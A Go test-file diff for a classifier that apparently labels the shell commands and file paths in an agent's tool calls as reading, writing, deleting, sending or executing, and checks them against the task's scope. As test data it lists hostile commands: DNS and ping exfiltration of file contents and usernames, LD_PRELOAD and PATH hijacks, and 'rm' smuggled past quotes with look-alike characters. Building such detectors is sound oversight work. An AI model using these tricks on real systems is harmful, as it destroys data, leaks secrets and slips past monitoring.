@@ -79,7 +79,7 @@ func TestCommandVerbs(t *testing.T) {
 		"ls | xargs -n 1 rm":             set(verbRead, verbDelete),
 		"ls | xargs -I{} cp {} d":        set(verbRead, verbWrite),
 		"sudo -u root rm a":              set(verbAuth, verbDelete),
-		"sudo -i":                        set(verbAuth),
+		"sudo -i":                        set(verbAuth, verbExec),
 		"env A=b rm a":                   set(verbDelete),
 		"env":                            set(verbRead),
 		"command -v rm":                  set(verbRead),
@@ -120,6 +120,81 @@ func TestCommandVerbs(t *testing.T) {
 		if got := new(commandReader).command(command); got != want {
 			t.Errorf("%q: %07b, want %07b", command, got, want)
 		}
+	}
+}
+
+// Programs that read, and what makes them do more.
+func TestCommandEffects(t *testing.T) {
+	for class, commands := range map[verbClass][]string{
+		verbRead: {
+			"git log --oneline", "git tag", "git tag -l 'v*'", "git branch -a", "git -c core.pager=cat log", "git rev-parse HEAD", "GIT_PAGER=cat git diff",
+			"sort -t o -k 1,1 a", "sort -rn a", "date -Iseconds", "date +%s", "uniq -c -f 1 a", "hostname", "xxd -l 16 a",
+			"sed -n '1,20p' east.txt", "sed 's/foo/we/g; s/a/e/' a", "sed -e 's/a/b/' w", "sed 's|^ *||' a",
+			"awk '$3 > 80 || $1 == \"a\" {print $1 \"|\" $2}' a", "awk -F'|' -v n=3 '{print $n}' a", "awk -F@ '{print $2}' a",
+			"curl -s -o /dev/null -w '%{http_code}' https://example.com", "curl -H \"Authorization: $TOKEN\" https://example.com/$ID", "wget -qO- https://example.com", "wget --spider https://example.com",
+			"export PATH=$PATH:/opt/bin", "PATH=\"$PATH:bin\" ls", "clear", "docker compose ps", "echo 'a[1]'", "ls # all",
+		},
+		verbWrite: {
+			"sort -ro b a", "sort --outp=b a", "git diff --output=b", "uniq a b", "xxd -r a b", "sed -ni s/a/b/ a", "sed -e p -i a", "yq -i .a=1 a", "date -s 2020-01-01", "hostname b",
+			"git tag v1", "git branch a",
+		},
+		verbDelete: {"git reset --hard", "git tag -d a", "git branch -Dq a", "git push --delete origin a", "history -c", "PROMPT_COMMAND='rm a'", "bash -ce 'rm a'", "journalctl --vacuum-time=1s"},
+		verbSend: {
+			"dig $(cat a).example.com", "ping \"$(whoami).example.com\"",
+		},
+		verbExec: {
+			"sort --compress-program=./a b", "rg --pre ./a b", "git grep -Oa b", "man -P 'a b' ls", "fd -x rm", "sed 's/x/rm a/e' b", "sed '1e rm a' b", "sed 'w /etc/a' b", "sed -n '/x/w b' a", "sed -f a b", "sed \"$x\" b",
+			"awk -f a", "awk '{print > b}' a", "awk '{print | \"sh\"}' a", "gawk '@load \"a\"'", "gawk -i inplace 1 a", "ssh -o ProxyCommand=a host ls",
+			"PATH=. ls", "export PATH=/tmp:$PATH; ls", "X=/tmp; PATH=$X:/bin ls", "LD_PRELOAD=./a.so ls", "env LD_PRELOAD=./a.so ls", "GIT_PAGER=a git log", "git -c core.pager=a log", "git -c core.sshCommand=a fetch",
+			"bash a -c ls", "ls; bash -c \"$x\"", "ls; eval \"$x\"", "bash --rcfile a -i -c ls", "sudo -s <<< 'rm a'", "chroot a <<< 'rm b'", "env '-Srm -rf a'", "env --split-string='rm a'", "watch 'cat a; frob'",
+			"go env -w A=b", "git config a b", "go version -m $x", "frobnicate --version", strings.Repeat("eval ls;", 300), "flock a -c 'cat a; frob'", "nohup ./a=b ls", "open a",
+			"[ -v 'a[$(rm b)]' ]", "printf -v 'a[$(rm b)]' c", "ls # a\\\nrm b",
+		},
+	} {
+		for _, command := range commands {
+			got := new(commandReader).command(command)
+			if !got.has(class) || class == verbRead && got != verbSet(0).with(verbRead) {
+				t.Errorf("%q: %07b lacks class %d, or has more than reading", command, got, class)
+			}
+		}
+	}
+}
+
+// What is a quote for a shell is what counts, not what looks like one.
+func TestCommandsVerbatim(t *testing.T) {
+	tr := NewTracker(nil, verdict.Task{Instruction: "Look at the logs."})
+	for args, want := range map[string]string{
+		`{"command": "echo \\'; rm a; \\'"}`:                                              "is_delete",
+		`{"command": "echo \\\"; rm a; \\\""}`:                                            "is_delete",
+		`{"command": "echo ’; rm a; ’"}`:                                                  "is_delete",
+		`{"command": "echo \uff02; rm a; \uff02"}`:                                        "is_delete",
+		`{"command": "ls ＃; rm a"}`:                                                       "is_delete",
+		`{"command": "ls\u000arm a"}`:                                                     "is_delete",
+		`{'command': 'ls\x3brm a'}`:                                                       "is_delete",
+		`[{"command": "ls"}, {"command": "git", "args": ["push"]}]`:                       "is_send",
+		`[{"args": ["-l"], "command": "ls"}, {"args": ["push"], "command": "git"}]`:       "is_send",
+		`{"command": "ls", "a": "` + strings.Repeat("a", maxArgs) + `", "command": "ls"}`: "is_exec",
+		`{"command": "echo \\\\; ls", "note": "rm a"}`:                                    "is_read",
+	} {
+		if f := get(t, tr, call("bash", args)); f[want] != 1 {
+			t.Errorf("%.80s: %s is %v", args, want, f[want])
+		}
+	}
+}
+
+func TestPathsAreResolved(t *testing.T) {
+	tr := NewTracker(nil, verdict.Task{Instruction: `Tidy /srv/data and read C:\Users\a.txt and /home/ann/docs/b.txt.`})
+	for path, want := range map[string]float64{
+		"/srv/data/a": 1, "/srv/data/./a": 1, "/srv/data/..": 0, "/srv/data/../..": 0, `C:\\Users\\bob`: 0, "/home/ann/docs/c": 1, "/home/ann/c": 0,
+		"file:///srv/data/a": 1, "file:///etc/a": 0, "/srv/data/": 1, "/srv/data/a...": 1,
+	} {
+		// A path inside tells those that are outside from those that are not seen.
+		if f := get(t, tr, call("delete_file", `{"path": "`+path+`", "b": "/srv/data/b"}`)); f["path_scope"] != (1+want)/2 {
+			t.Errorf("%s: path_scope %v", path, f["path_scope"])
+		}
+	}
+	if f := get(t, tr, call("delete_file", `{"path": "/`+strings.Repeat("./", 200)+`etc/a"}`)); f["delete_outside"] != 1 {
+		t.Errorf("a long path: delete_outside %v", f["delete_outside"])
 	}
 }
 
